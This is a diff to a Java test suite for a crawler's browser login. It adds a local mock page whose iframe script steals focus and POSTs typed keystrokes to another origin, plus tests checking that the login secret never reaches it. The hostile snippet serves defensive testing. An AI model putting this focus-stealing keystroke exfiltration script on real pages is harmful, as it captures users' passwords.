@@ -20,6 +20,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 
+import com.microsoft.playwright.PlaywrightException;
 import com.sun.net.httpserver.HttpExchange;
 import com.sun.net.httpserver.HttpServer;
 
@@ -47,6 +48,12 @@ class BrowserSessionLoginTest {
     void start() throws IOException {
         assumeTrue(Files.isExecutable(Path.of("/usr/bin/chromium")), "Debian's chromium is installed");
         other = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
+        // a frame that takes the focus whenever it can and sends home whatever is typed into it
+        other.createContext("/frame", exchange -> {
+            otherReceived.add("GET /frame");
+            html(exchange, "<input id=\"x\"><script>const x = document.getElementById('x'); setInterval(() => { x.focus();"
+                    + " if (x.value) { fetch('/typed', {method: 'POST', body: x.value}); x.value = ''; } }, 0);</script>");
+        });
         other.createContext("/", exchange -> {
             otherReceived.add(exchange.getRequestMethod() + " " + exchange.getRequestURI() + " "
                     + new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
@@ -76,6 +83,9 @@ class BrowserSessionLoginTest {
                         + "<button id=\"go\">Sign in</button></form>";
                 case "/clobbered" -> "<form method=\"post\" action=\"" + otherOrigin + "/steal\"><input name=\"action\" value=\"/\">"
                         + "<input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>";
+                case "/framed" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>"
+                        + "<iframe src=\"" + otherOrigin + "/frame\"></iframe>";
+                case "/not-a-field" -> "<form method=\"post\"><div id=\"pass\">password</div><button id=\"go\">Sign in</button></form>";
                 default -> "<p>nothing here</p>";
             };
             html(exchange, form);
@@ -139,6 +149,28 @@ class BrowserSessionLoginTest {
         assertThat(logIn("/login-on-site")).as("a form whose action is on the site").isTrue();
         assertThat(sitePosted).containsExactly("/login pass=" + SECRET, "/session pass=" + SECRET);
         assertThat(otherReceived).isEmpty();
+    }
+
+    /**
+     * The login page of the credential's site holds a frame of another origin that takes the focus whenever it can:
+     * keystrokes would go there. The value goes into the field itself, and the login still works.
+     */
+    @Test
+    void aFrameOfAnotherOriginThatTakesTheFocusReceivesNothingTyped() {
+        for (int attempt = 0; attempt < 5; attempt++) {
+            assertThat(logIn("/framed")).as("attempt " + attempt).isTrue();
+        }
+        assertThat(otherReceived).as("the frame loaded").contains("GET /frame");
+        assertThat(otherReceived).as("what the other origin received").noneMatch(request -> request.contains(SECRET));
+        assertThat(sitePosted).hasSize(5).allMatch(posted -> posted.equals("/framed pass=" + SECRET));
+    }
+
+    /** A login field that is not a text field: an error that says so, and never quotes the value (Playwright's fill() did). */
+    @Test
+    void aFieldThatCannotBeTypedIntoIsAnErrorThatDoesNotQuoteTheValue() {
+        assertThatThrownBy(() -> logIn("/not-a-field")).isInstanceOf(PlaywrightException.class)
+                .hasMessageNotContaining(SECRET).hasMessageContaining("is a <div>, not an <input> or <textarea>");
+        assertThat(sitePosted).isEmpty();
     }
 
     private static CrawlerSettings settings() {
